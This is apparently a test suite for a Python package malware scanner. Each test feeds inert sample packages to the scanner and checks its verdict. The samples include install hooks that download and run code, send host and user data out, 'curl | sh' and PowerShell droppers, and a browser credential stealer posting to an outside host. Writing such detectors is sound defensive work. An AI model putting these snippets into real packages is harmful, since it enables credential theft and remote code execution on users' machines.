"""Each behaviour rule on a small inert sample (hosts are example.invalid; nothing runs)."""

from __future__ import annotations

import base64
import zlib

from bastion.scanning import scan_bytes

from .helpers import PLAIN_SETUP, sdist, wheel


def scan(files: dict[str, str | bytes]):
    return scan_bytes(sdist(files), "demo-1.0.tar.gz")


def rules(result) -> dict[str, str]:
    out: dict[str, str] = {}
    for f in result.findings:
        out.setdefault(f.rule, str(f.severity))
    return out


def test_setup_download_and_execute() -> None:
    setup = (
        PLAIN_SETUP
        + """
import urllib.request, subprocess
data = urllib.request.urlopen("https://example.invalid/tool").read()
open("/tmp/tool", "wb").write(data)
subprocess.Popen(["/tmp/tool"])
"""
    )
    result = scan({"setup.py": setup})
    assert result.verdict == "malicious"
    assert rules(result)["download-and-execute"] == "high"


def test_install_command_override_with_network_is_malicious() -> None:
    setup = """
from setuptools import setup
from setuptools.command.install import install
import requests, socket, getpass
class Post(install):
    def run(self):
        requests.get("https://example.invalid/", params={"h": socket.gethostname(),
                                                         "u": getpass.getuser()})
        install.run(self)
setup(name="demo", cmdclass={"install": Post})
"""
    result = scan({"setup.py": setup})
    assert rules(result)["exfiltration"] == "high"


def test_setup_running_git_is_not_malicious() -> None:
    setup = (
        PLAIN_SETUP
        + """
import subprocess
rev = subprocess.check_output(["git", "rev-parse", "HEAD"])
"""
    )
    assert scan({"setup.py": setup}).verdict == "clean"


def test_version_exec_from_local_file_is_clean() -> None:
    setup = (
        PLAIN_SETUP
        + """
about = {}
with open("demo/__about__.py") as fp:
    exec(fp.read(), about)
"""
    )
    assert scan({"setup.py": setup}).verdict == "clean"


def test_exec_of_base64_zlib_chain() -> None:
    hidden = base64.b64encode(zlib.compress(b"print('inert')")).decode()
    code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{hidden}')))\n"
    result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
    assert rules(result)["exec-obfuscated-code"] == "high"


def test_decoded_payload_is_analysed_statically() -> None:
    payload = b"import os\nos.system('curl https://example.invalid/x.sh | sh')\n"
    code = "import base64\nexec(base64.b64decode('" + base64.b64encode(payload).decode() + "'))\n"
    result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
    found = rules(result)
    assert found["shell-dropper"] == "high"
    assert found["exec-obfuscated-code"] == "high"


def test_code_hidden_in_a_string_written_and_started() -> None:
    setup = (
        PLAIN_SETUP
        + '''
from tempfile import NamedTemporaryFile
from os import system
tmp = NamedTemporaryFile(delete=False)
tmp.write(b"""from urllib.request import urlopen;exec(urlopen('https://example.invalid/r').read())""")
tmp.close()
system("start pythonw " + tmp.name)
'''
    )
    result = scan({"setup.py": setup})
    assert rules(result)["exec-downloaded-code"] == "high"


def test_hardcoded_discord_webhook() -> None:
    hook = "https://discord.com/api/webhooks/123456789012345678/" + "a" * 68
    code = f"import requests\nHOOK = '{hook}'\n"
    result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
    assert rules(result)["hardcoded-webhook"] == "high"
    assert result.verdict == "malicious"


def test_browser_stealer_with_destination() -> None:
    code = """
import os, requests
p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")
q = os.path.join("Default", "Login Data")
requests.post("https://abcdefgh.oast.fun/", data=open(p, "rb").read())
"""
    result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
    assert result.verdict == "malicious"
    assert "credential-theft" in rules(result)


def test_cookie_reader_without_network_is_not_malicious() -> None:
    code = """
import os, sqlite3
def cookies():
    p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")
    key = os.path.join("Default", "Login Data")
    return sqlite3.connect(key)
"""
    assert scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}).verdict != "malicious"


def test_pth_file_with_exec() -> None:
    pth = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"
    result = scan_bytes(
        wheel({"demo/__init__.py": "", "demo-hook.pth": pth}), "demo-1.0-py3-none-any.whl"
    )
    assert rules(result)["pth-code-execution"] == "high"


def test_pth_with_plain_import_is_low() -> None:
    pth = "import demo_hook\n"
    result = scan_bytes(
        wheel({"demo/__init__.py": "", "demo.pth": pth}), "demo-1.0-py3-none-any.whl"
    )
    assert rules(result)["pth-import"] == "low"
    assert result.verdict == "clean"


def test_obfuscated_identifiers_with_exec() -> None:
    names = "\n".join(f"lIlIlIlI{'lI' * (i % 5)}{'I' * i} = {i}" for i in range(30))
    code = names + "\nexec(lIlIlIlII)\n"
    result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
    assert rules(result)["obfuscated-identifiers"] == "high"


def test_whitespace_hidden_code() -> None:
    code = "VALUE = 1" + " " * 250 + ";import os\n"
    assert (
        rules(scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}))[
            "code-hidden-by-whitespace"
        ]
        == "high"
    )


def test_base64_executable_in_python() -> None:
    code = "BLOB = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n"
    assert (
        rules(scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}))["embedded-executable"]
        == "high"
    )


def test_powershell_dropper_in_setup() -> None:
    setup = (
        PLAIN_SETUP
        + """
import subprocess
subprocess.Popen("powershell -WindowStyle Hidden -c iex (iwr https://example.invalid/a.ps1)",
                 shell=True)
"""
    )
    assert rules(scan({"setup.py": setup}))["shell-dropper"] == "high"


def test_library_dropper_without_red_flags_is_low() -> None:
    # what tunnel or driver installers legitimately do, in a package with a real code base
    files: dict[str, str | bytes] = {"setup.py": PLAIN_SETUP}
    for i in range(8):
        files[f"demo/mod{i}.py"] = f"X = {i}\n"
    files["demo/installer.py"] = """
import urllib.request, subprocess
def install(url, dest):
    with urllib.request.urlopen(url) as r, open(dest, "wb") as f:
        f.write(r.read())
    subprocess.run([dest, "--version"])
"""
    result = scan(files)
    assert result.verdict == "clean"
    assert rules(result)["download-and-run"] == "low"


def test_pyarmor_is_suspicious_not_malicious() -> None:
    code = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')\n"
    result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
    assert rules(result)["pyarmor-protected"] == "medium"
    assert result.verdict == "suspicious"


def test_test_folder_is_downgraded() -> None:
    code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    files: dict[str, str | bytes] = {"setup.py": PLAIN_SETUP, "tests/test_x.py": code}
    for i in range(8):
        files[f"demo/mod{i}.py"] = "X = 1\n"
    # tests are not run on install or import: without byte-level red flags they are not parsed
    assert scan(files).verdict == "clean"
